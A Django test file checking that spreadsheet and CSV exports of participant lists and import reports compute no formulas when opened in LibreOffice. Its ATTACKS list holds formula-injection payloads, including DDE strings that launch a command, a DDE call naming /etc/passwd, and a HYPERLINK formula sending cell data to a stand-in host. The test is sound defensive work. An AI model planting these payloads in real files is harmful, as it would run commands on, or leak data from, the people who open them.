"""What leaves as a spreadsheet is opened by LibreOffice, and nothing in it is computed."""

import random

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from tablib import Dataset

from okoce import sheets_out
from okoce.jobs.models import Job
from okoce.jobs.tasks import run_job
from okoce.sheets_out import CSV, XLSX, inert
from participants.imports.models import Import
from participants.people.models import Business
from tests.factories.people import make_participant, make_user
from tests.factories.places import BARAT
from tests.factories.years import make_point, make_year
from tests.office import SEPARATORS, formulas, opened, texts
from tests.participants.imports.imported import GOOD, csv_of

pytestmark = pytest.mark.once

ATTACKS = [
    "=1+1",
    "==1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    '"=1+1',
    "＝1+1",
    "\u200b=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a,=1+1",
    '=HYPERLINK("http://contoh.example/?x="&A1,"klik")',
    '=DDE("soffice";"/etc/passwd";"Sheet1")',
    '=WEBSERVICE("http://contoh.example/")',
    "{=1+1}",
    "#REF!",
]
WAYS = [(XLSX, ","), *((CSV, separator) for separator in SEPARATORS)]


@pytest.fixture
def staff(client):
    make_year()
    make_point("kecamatan")
    user = make_user("staff", name="=1+1")
    client.force_login(user)
    return client


def body_of(response):
    return response.getvalue()


def test_the_opening_program_would_compute_what_nobody_made_inert(tmp_path):
    rows = opened(b'"=1+1","teks"\n', tmp_path, kind=CSV)

    assert formulas(rows) == ["=1+1"]


@pytest.mark.django_db
@pytest.mark.parametrize(("kind", "separator"), WAYS)
def test_a_list_of_people_computes_nothing_and_keeps_their_words(staff, tmp_path, kind, separator):
    for attack in ATTACKS:
        person = make_participant(name=attack, street=attack, email=attack)
        Business.objects.create(participant=person, standing="running", trade=attack)

    page = staff.post(reverse("participants:exports-people"), {"reason": "Undangan pelatihan", "bentuk": kind})
    rows = opened(body_of(page), tmp_path, kind=kind, separator=separator)

    assert formulas(rows) == []
    if separator == ";":
        assert sorted(row[2].value for row in rows[2:]) == sorted(map(inert, ATTACKS))
        assert sorted(row[7].value for row in rows[2:]) == sorted(map(inert, ATTACKS))


@pytest.mark.django_db
@pytest.mark.parametrize("separator", SEPARATORS)
def test_the_report_of_an_import_computes_nothing(staff, tmp_path, separator):
    quoted = [attack.replace('"', '""') for attack in ATTACKS]
    bad = [GOOD | {"Nama Lengkap": text, "Alamat": text, "Nomor HP": text, "Kelurahan": text} for text in quoted]
    shown = {"registration_point": "kecamatan", "region": BARAT}
    staff.post(
        reverse("participants:imports-list"), shown | {"file": SimpleUploadedFile("daftar.csv", csv_of(GOOD, *bad))}
    )
    run_job(Job.objects.get(name="imports.judge").pk)

    page = staff.get(reverse("participants:imports-report", args=[Import.objects.get().pk]))
    rows = opened(body_of(page), tmp_path, kind=CSV, separator=separator)

    assert formulas(rows) == []
    assert any("=1+1" in text for text in texts(rows))


@pytest.mark.django_db
def test_the_list_to_fill_in_computes_nothing(staff, tmp_path):
    page = staff.get(reverse("participants:imports-template"))

    assert formulas(opened(body_of(page), tmp_path, kind=XLSX)) == []


@pytest.mark.parametrize(("kind", "separator"), WAYS)
def test_no_mixture_of_signs_is_computed(tmp_path, kind, separator):
    signs = [*"=+-@＝＋－＠;,|\t\n\r\"'`´‘’“”«» !#(){}$%&A1x0", "\u200b", "\u00a0", "\ufeff", "\x00", "\x0b", "SUM(1)"]
    luck = random.Random(3)  # the same table in every run
    table = [["".join(luck.choices(signs, k=luck.randint(1, 9))) for _ in range(6)] for _ in range(500)]

    content = sheets_out.answer(Dataset(*table), name="uji", kind=kind).content
    rows = opened(content, tmp_path, kind=kind, separator=separator)

    assert formulas(rows) == []
    assert len(rows) > 400
